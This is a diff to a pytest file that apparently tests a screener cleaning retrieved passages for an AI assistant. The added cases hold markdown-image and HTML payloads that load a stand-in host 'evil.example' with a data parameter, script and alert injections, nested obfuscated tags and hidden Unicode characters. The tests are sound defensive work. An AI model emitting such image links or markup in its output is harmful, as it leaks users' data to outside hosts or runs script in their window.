@@ -1,6 +1,7 @@
 import gzip
 import json
 import os
+import re
 from pathlib import Path
 
 import pytest
@@ -63,6 +64,7 @@ HARMLESS = [
     "Your PIN is reset in the app under Cards; follow the instructions on the screen.",
     "You must be 18 to open an account. The system will send a message to your phone.",
     "Ignore the fee shown in the preview; the previous statement lists it.",
+    "In Objective-C: if (! [card isLost]) return; and `kaizen <command> <image>` for each 'x' <y.",
     "Our assistant answers from nine to five. Users ask about fees most often.",
     "In C++, vector<int> a; if (a < b && c > d) return; prints 5 < 6.",
     "Print the statement, sign it and send it to us by post.",
@@ -100,12 +102,47 @@ def test_markup_and_white_space_go(text, clean):
     assert screen(passage(text)).text == clean
 
 
+EVIL = "https://evil.example/?d=1"
+LOADS = re.compile(r"!\[|<(?:img|image|script|x-img|marquee|!--)", re.IGNORECASE)
+BROKEN = [
+    "!" * 8 + "[](x)" * 7 + f"[c]({EVIL})",
+    f"![a[b]c]({EVIL})",
+    rf"![a\]b]({EVIL})",
+    "![" + "a" * 501 + f"]({EVIL})",
+    f"![a]({EVIL}{'x' * 2001})",
+    f"see ![alt]\n\n[alt]: {EVIL}",
+    f'<img alt="<" src="{EVIL}">',
+    f'<img alt=">" src="{EVIL}">',
+    f"<img alt='<' src='{EVIL}'>",
+    f'<img src="{EVIL}" ',
+    f'<image href="{EVIL}">',
+    "<marquee onstart=alert(1)>",
+    f'<x-img onclick="location={EVIL}">',
+    "<scr" * 8 + "<script>" + "ipt>" * 8 + "alert(1)",
+    "<im" * 8 + "<img >" + "g >" * 8,
+    "&" + "amp;" * 9 + "lt;script>",
+]
+
+
+@pytest.mark.parametrize("text", BROKEN, ids=range(len(BROKEN)))
+def test_markup_that_is_broken_on_purpose_is_markup_to_nobody(text):
+    """Least of all an image, which an assistant's window loads from wherever it says."""
+    assert not LOADS.search(screen(passage(f"Opening hours. {text}")).text)
+
+
+def test_markup_too_nested_to_be_taken_apart_is_flagged():
+    assert ACTIVE in screen(passage("!" * 8 + "[](x)" * 7 + f"[c]({EVIL})")).flags
+
+
 def test_scripts_go_with_their_content_and_are_flagged():
     screened = screen(passage("before<script>steal()</script> after <style>p{}</style>"))
     assert (screened.text, screened.flags) == ("before after", (ACTIVE,))
 
 
-@pytest.mark.parametrize("hidden", ["\u200b", "\u202e", "\u2066", "\U000e0041", "\u2063"])
+@pytest.mark.parametrize(
+    "hidden",
+    ["\u200b", "\u202e", "\u2066", "\U000e0041", "\u2063", "\U0001d173", "\U0001bca0", "\U000f0041", "\U00100041"],
+)
 def test_hidden_characters_go_and_are_flagged(hidden):
     screened = screen(passage(f"pay{hidden}ment", title=f"a{hidden}b"))
     assert (screened.title, screened.text, screened.flags) == ("ab", "payment", (HIDDEN,))
@@ -146,7 +183,24 @@ def test_nothing_unseen_is_left_of_any_text(text):
 
 
 @pytest.mark.parametrize(
-    "part", ["[", "![", "<script ", "<a ", "<!--", "&amp;", "i ", "ignore ", "http://a?q=", "send "]
+    "part",
+    [
+        "[",
+        "![",
+        "<script ",
+        "<a ",
+        "<p ",
+        "</p",
+        "<p '",
+        '<img "',
+        "<x a",
+        "<!--",
+        "&amp;",
+        "i ",
+        "ignore ",
+        "http://a?q=",
+        "send ",
+    ],
 )
 @pytest.mark.timeout(10)
 def test_hostile_repetition_takes_no_time(part):
